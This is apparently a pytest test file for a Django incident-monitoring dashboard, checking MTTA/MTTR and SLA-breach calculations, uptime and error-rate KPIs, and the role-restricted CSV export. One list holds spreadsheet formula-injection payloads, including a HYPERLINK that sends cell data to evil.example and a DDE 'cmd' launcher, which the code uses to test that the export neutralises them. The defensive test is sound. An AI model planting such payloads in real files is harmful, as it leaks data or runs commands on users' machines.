"""The dashboard's KPIs: MTTA and MTTR per severity computed exactly from incident rows, and
each figure judged against its target (no data is neither a pass nor a failure)."""

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from django.utils import timezone

from incidents.models import Source
from portal.dashboards.kpis import (
    IncidentTimes, MonitorIncidents, MonthTimes, error_rate_kpi, history, incident_times, incidents_per_monitor,
    monthly_times, response_kpi, severity_kpis, uptime_kpi,
)
from tests.portal.test_dashboard import make_incident

MIN = timedelta(minutes=1)


@pytest.mark.django_db
def test_mean_times_per_severity_over_the_last_30_days():
    now = timezone.now().replace(microsecond=0)
    opened = now - timedelta(days=2)
    # P0: acknowledged after 5 and 10 min (MTTA 7.5 min); resolved after 40 min and still open (MTTR 40 min)
    make_incident("A", opened=opened, severity="P0", acknowledged_at=opened + 5 * MIN, resolved_at=opened + 40 * MIN)
    make_incident("B", opened=opened, severity="P0", acknowledged_at=opened + 10 * MIN)
    # P1: resolved after 1 h and 3 h without acknowledgement (MTTA none, MTTR 2 h)
    make_incident("C", opened=opened, severity="P1", resolved_at=opened + 60 * MIN)
    make_incident("D", opened=opened, severity="P1", resolved_at=opened + 180 * MIN)
    # older than 30 days: left out
    old = now - timedelta(days=30, minutes=1)
    make_incident("E", opened=old, severity="P0", acknowledged_at=old + 600 * MIN, resolved_at=old + 900 * MIN)

    times = incident_times(now)

    assert times == {
        "P0": IncidentTimes(opened=2, acknowledged=2, resolved=1, mtta=timedelta(minutes=7, seconds=30),
                            mttr=timedelta(minutes=40)),
        "P1": IncidentTimes(opened=2, acknowledged=0, resolved=2, mtta=None, mttr=timedelta(hours=2)),
    }


def test_each_severity_is_judged_against_its_own_targets():
    times = {
        "P0": IncidentTimes(opened=2, acknowledged=2, resolved=2, mtta=timedelta(minutes=16),
                            mttr=timedelta(minutes=59)),
        "P1": IncidentTimes(opened=1, resolved=1, mttr=timedelta(hours=5)),
    }
    p0, p1, p2, p3 = severity_kpis(times)

    assert (p0.mtta.shown, p0.mtta.target, p0.mtta.met) == ("16 min", "≤ 15 min", False)
    assert (p0.mttr.shown, p0.mttr.target, p0.mttr.met) == ("59 min", "≤ 1 h", True)
    assert (p1.mtta.shown, p1.mtta.met) == ("n/a", None)
    assert (p1.mttr.shown, p1.mttr.target, p1.mttr.met) == ("5 h", "≤ 4 h", False)
    assert [(row.severity, row.times.opened, row.mttr.met) for row in (p2, p3)] == [("P2", 0, None), ("P3", 0, None)]
    assert (p2.mttr.target, p3.mttr.target) == ("≤ 1 d", "≤ 3 d")


def test_a_mean_time_on_its_target_meets_it():
    p0 = severity_kpis({"P0": IncidentTimes(opened=1, resolved=1, mttr=timedelta(hours=1))})[0]
    assert p0.mttr.met is True


def test_uptime_is_the_mean_of_the_monitors_with_data():
    kpi = uptime_kpi([100.0, 99.85, None])
    assert (kpi.shown, kpi.target, kpi.met) == ("99.925 %", "≥ 99.9 %", True)
    assert kpi.note == "mean of 2 active monitors; 1 of 2 meet 99.9 %"
    assert uptime_kpi([99.0]).met is False
    assert (uptime_kpi([None]).shown, uptime_kpi([]).met) == ("n/a", None)


def test_response_time_is_the_mean_of_the_monitors_averages():
    kpi = response_kpi([100.0, 700.0, None])
    assert (kpi.shown, kpi.target, kpi.met) == ("400 ms", "≤ 500 ms", True)
    assert response_kpi([501.0]).met is False
    assert response_kpi([]).shown == "n/a"


def test_error_rate_without_a_request_count_shows_the_errors():
    stats = {"success": True, "projects": [], "total_24h": 42, "updated_at": "", "stale": False}
    kpi = error_rate_kpi(stats)
    assert (kpi.shown, kpi.target, kpi.met, kpi.note) == ("n/a", "≤ 1 %", None, "42 errors in 24 h; no request count")


def test_error_rate_without_sentry_says_why():
    kpi = error_rate_kpi(None, "Sentry answered 500 for project web")
    assert (kpi.shown, kpi.met, kpi.note) == ("n/a", None, "Sentry answered 500 for project web")


# Per month, SLA breaches, per monitor, the CSV --------------------------------------

NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)


def at(day, hour=0, minute=0, month=None, year=2026):
    return datetime(year, month, day, hour, minute, tzinfo=UTC)


@pytest.fixture
def known_incidents(db):
    """Incidents with chosen times; the expected figures are worked out by hand below."""
    Source.objects.create(key="monitor:1", kind="monitor", name="api")
    # 2026-02, P0: acknowledged after 5 and 20 min (MTTA 12.5 min; one late), resolved after
    # 30 and 50 min (MTTR 40 min; both later than 15 min)
    a = at(3, 10, month=2)
    make_incident("A", opened=a, severity="P0", source_key="monitor:1", acknowledged_at=a + 5 * MIN,
                  resolved_at=a + 30 * MIN, status="resolved")
    b = at(20, 9, month=2)
    make_incident("B", opened=b, severity="P0", source_key="monitor:1", acknowledged_at=b + 20 * MIN,
                  resolved_at=b + 50 * MIN, status="resolved")
    # 2026-02, P1: acknowledged exactly on the 1 h SLA (not late), never resolved (late by now)
    c = at(28, 23, 30, month=2)
    make_incident("C", opened=c, severity="P1", source_key="monitor:1", acknowledged_at=c + 60 * MIN)
    # 2026-03, P2: never acknowledged (late by now), resolved after 3 h (within 4 h)
    e = at(9, month=3)
    make_incident("E", opened=e, severity="P2", source_key="backup:nightly", resolved_at=e + 180 * MIN,
                  status="resolved")
    # 2026-03, P3: open for 1 h, within its 1-day SLA: no breach yet
    make_incident("D", opened=at(10, 11, month=3), severity="P3", source_key="monitor:2")
    # the first month of the 12 (2025-04) counts; the day before it does not
    f = at(1, month=4, year=2025)
    make_incident("F", opened=f, severity="P0", acknowledged_at=f + MIN, resolved_at=f + 2 * MIN, status="resolved")
    g = at(31, 23, 59, month=3, year=2025)
    make_incident("G", opened=g, severity="P0", acknowledged_at=g + MIN, resolved_at=g + 2 * MIN, status="resolved")


def test_mean_times_and_sla_breaches_per_month_and_severity(known_incidents, django_assert_num_queries):
    """MTTA/MTTR are exact means per UTC month of opening; an incident not acknowledged (or
    not resolved) once its SLA has passed counts as a breach, one still within it does not."""
    with django_assert_num_queries(1):
        rows = monthly_times(NOW)

    assert len(rows) == 12 * 4
    assert (rows[0].month, rows[0].severity, rows[-1].month, rows[-1].severity) == (
        date(2025, 4, 1), "P0", date(2026, 3, 1), "P3")
    assert [row for row in rows if row.opened] == [
        MonthTimes(date(2025, 4, 1), "P0", 1, MIN, 2 * MIN, 0, 0),
        MonthTimes(date(2026, 2, 1), "P0", 2, timedelta(minutes=12, seconds=30), 40 * MIN, 1, 2),
        MonthTimes(date(2026, 2, 1), "P1", 1, timedelta(hours=1), None, 0, 1),
        MonthTimes(date(2026, 3, 1), "P2", 1, None, timedelta(hours=3), 1, 0),
        MonthTimes(date(2026, 3, 1), "P3", 1, None, None, 0, 0),
    ]


def test_an_open_incident_breaches_once_its_sla_has_passed(known_incidents):
    later = NOW + timedelta(days=1)  # D (P3, opened 2026-03-10 11:00) is now past its 1 day
    p3 = [row for row in monthly_times(later) if row.opened and row.severity == "P3"]
    assert [(row.ack_breaches, row.resolve_breaches) for row in p3] == [(1, 1)]


def test_incidents_per_monitor_are_named_by_their_source(known_incidents, django_assert_num_queries):
    with django_assert_num_queries(2):
        rows = incidents_per_monitor(NOW)
    # monitor:2 has no Source row (deleted monitor): shown by its key; backups are not monitors
    assert rows == [MonitorIncidents("monitor:1", "api", 2, 3), MonitorIncidents("monitor:2", "monitor:2", 1, 1)]


def test_the_history_shows_months_newest_first_against_the_targets(known_incidents, django_assert_num_queries):
    with django_assert_num_queries(3):
        found = history(NOW)
    p0 = found["months"][2]
    assert (p0.times.month, p0.times.severity) == (date(2026, 2, 1), "P0")
    assert (p0.mtta.shown, p0.mtta.met, p0.mttr.shown, p0.mttr.target, p0.mttr.met) == (
        "12 min 30 s", True, "40 min", "≤ 1 h", True)
    assert [row.times.month for row in found["months"]] == [date(2026, 3, 1)] * 2 + [date(2026, 2, 1)] * 2 + [
        date(2025, 4, 1)]


def parse_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_csv_has_a_row_per_month_and_severity(role_clients):
    now = timezone.now().replace(microsecond=0)
    opened = now - timedelta(hours=2)
    make_incident("INC-1", opened=opened, severity="P0", source_key="monitor:7", acknowledged_at=opened + 20 * MIN,
                  resolved_at=opened + 30 * MIN, status="resolved")
    Source.objects.create(key="monitor:7", kind="monitor", name="web")

    response = role_clients["super_admin"].get("/dashboard/monitoring/kpis.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="vigil-kpis.csv"' in response["Content-Disposition"]
    rows = parse_csv(response)
    assert rows[0] == ["month", "severity", "incidents", "mtta_seconds", "mttr_seconds", "ack_breaches",
                       "resolve_breaches"]
    assert len(rows) == 1 + 12 * 4
    month = f"{opened.astimezone(UTC):%Y-%m}"
    assert [month, "P0", "1", "1200", "1800", "1", "1"] in rows
    assert [month, "P1", "0", "", "", "0", "0"] in rows

    monitors = parse_csv(role_clients["super_admin"].get("/dashboard/monitoring/kpis.csv?table=monitors"))
    assert monitors == [["monitor", "source_key", "incidents_last_30_days", "incidents_last_12_months"],
                        ["web", "monitor:7", "1", "1"]]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tx", "\rx"]


def test_the_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(role_clients):
    """OWASP's advice: text starting with = + - @ tab or CR gets a leading quote; numbers stay numbers."""
    opened = timezone.now().replace(microsecond=0) - timedelta(hours=2)
    for number, name in enumerate(FORMULAS, start=1):
        make_incident(f"INC-{number}", opened=opened, title=name, source_key=f"monitor:{number}")
        Source.objects.create(key=f"monitor:{number}", kind="monitor", name=name)

    rows = parse_csv(role_clients["super_admin"].get("/dashboard/monitoring/kpis.csv?table=monitors"))

    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in FORMULAS)
    assert all(row[2:] == ["1", "1"] for row in rows[1:])
    month = f"{opened.astimezone(UTC):%Y-%m}"
    months = parse_csv(role_clients["super_admin"].get("/dashboard/monitoring/kpis.csv"))
    assert [month, "P1", str(len(FORMULAS))] in [row[:3] for row in months]


@pytest.mark.parametrize("role", ["no_role", "staff", "engineer"])
def test_only_super_admins_download_the_csv(role_clients, role):
    assert role_clients[role].get("/dashboard/monitoring/kpis.csv").status_code == 403


def test_anonymous_visitors_are_sent_to_sign_in_for_the_csv(role_clients):
    response = role_clients["anonymous"].get("/dashboard/monitoring/kpis.csv")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_the_dashboard_shows_the_history_and_the_csv_link(role_clients):
    now = timezone.now().replace(microsecond=0)
    opened = now - timedelta(hours=2)
    Source.objects.create(key="monitor:7", kind="monitor", name="web")
    make_incident("INC-1", opened=opened, severity="P0", source_key="monitor:7", acknowledged_at=opened + 20 * MIN)

    page = role_clients["super_admin"].get("/dashboard/monitoring/").content.decode()

    assert f'id="kpi-{opened.astimezone(UTC):%Y-%m}-P0"' in page
    assert 'href="/dashboard/monitoring/kpis.csv"' in page
    assert "<td>web</td><td>1</td><td>1</td>" in page
    assert page.count('id="kpi-months"') == 1
